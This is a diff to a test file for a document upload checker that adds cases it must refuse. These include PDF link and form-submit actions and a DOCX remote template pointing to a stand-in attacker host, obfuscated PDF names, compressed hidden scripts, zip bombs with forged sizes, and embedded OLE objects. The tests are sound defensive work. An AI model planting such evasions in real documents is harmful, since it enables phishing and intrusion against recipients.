@@ -1,4 +1,5 @@
 import { randomBytes } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
 import { expect, test } from 'vitest';
 import { compoundFileOf, DOCM, DOCX, pdfOf, sourceOf, zipOf } from '../../../tests/harness/sample-files.ts';
 import { checkDocument } from './check-document.server.ts';
@@ -21,6 +22,24 @@ test.each([
   ['a program to start', '/OpenAction << /S /Launch /F (calc.exe) >>'],
 ])('a PDF with %s is refused', async (_, text) => {
   expect(await check(await pdfWith(text))).toBe('documentScript');
+});
+
+test.each([
+  ['a link', '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://evil.example) >> >>]'],
+  ['a link whose name is escaped', '/A << /S /U#52I /URI <68> >>'],
+  ['a form that is sent', '/OpenAction << /S /SubmitForm /F (https://evil.example) >>'],
+])('a PDF with %s is refused for its links', async (_, text) => {
+  expect(await check(await pdfWith(text))).toBe('documentLinks');
+});
+
+test.each([
+  ['documentScript', '<< /S /JavaScript /JS (app.alert(1)) >>'],
+  ['documentLinks', '<< /S /URI /URI (https://evil.example) >>'],
+  ['documentBomb', ' '.repeat(17 << 20)],
+])('finds %s in compressed objects of a PDF', async (refusal, objects) => {
+  const packed = deflateSync(Buffer.from(objects)).toString('latin1');
+  const stream = `1 0 obj << /Type /Obj#53tm /Filter /FlateDecode >> stream\r\n${packed}\nendstream endobj`;
+  expect(await check(Buffer.from(`%PDF-1.7\n${stream}\nstartxref 0 %%EOF`, 'latin1'))).toBe(refusal);
 });
 
 test('a script in the middle of a long PDF is found, also where two pieces meet', async () => {
@@ -72,6 +91,30 @@ test.each([
   expect(await check(zipOf(files))).toBe('documentMacros');
 });
 
+const relating = (type: string) =>
+  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
+test.each([
+  ['a template', { 'word/_rels/settings.xml.rels': relating('attachedTemplate') }],
+  [
+    'a template in UTF-16',
+    { 'word/_rels/settings.xml.rels': Buffer.from(relating('attachedTemplate'), 'utf16le') },
+  ],
+  ['a template in numbered letters', { 'WORD/_RELS/SETTINGS.XML.RELS': relating('attached&#84;emplate') }],
+  ['an object that is linked', { 'word/_rels/document.xml.rels': relating('oleObject') }],
+  ['an embedded object', { 'word/embeddings/oleObject1.bin': 'x' }],
+  ['another document', { 'word/_rels/document.xml.rels': relating('subDocument') }],
+])('a DOCX with %s is refused', async (_, files) => {
+  expect(await check(zipOf({ ...DOCX, ...files }))).toBe('documentObjects');
+});
+
+test('a DOCX that unpacks to more than 200 MB is refused, also if it declares less', async () => {
+  const bomb = zipOf({ ...DOCX, 'word/media/image1.png': Buffer.alloc(201 << 20) });
+  expect(await check(bomb)).toBe('documentBomb');
+  const name = bomb.lastIndexOf('word/media/image1.png');
+  bomb.writeUInt32LE(10, name - 46 + 24);
+  expect(await check(bomb)).toBe('documentBomb');
+});
+
 test('a DOCX of which a part is encrypted is refused', async () => {
   expect(await check(zipOf(DOCX, 1))).toBe('documentEncrypted');
 });
@@ -104,6 +147,10 @@ test.each(['Macros', 'VBA', '_VBA_PROJECT', '_vba_project_cur'])('a DOC with %s 
 test('a DOC with a password is refused, in its old way and in its new one', async () => {
   expect(await check(compoundFileOf(['WordDocument'], 0x0100))).toBe('documentEncrypted');
   expect(await check(compoundFileOf(['EncryptionInfo', 'EncryptedPackage']))).toBe('documentEncrypted');
+});
+
+test('a DOC with an object of another program is refused', async () => {
+  expect(await check(compoundFileOf(['WordDocument', '\u0001Ole10Native']))).toBe('documentObjects');
 });
 
 test('a DOC is taken, and a workbook of the same make is not', async () => {
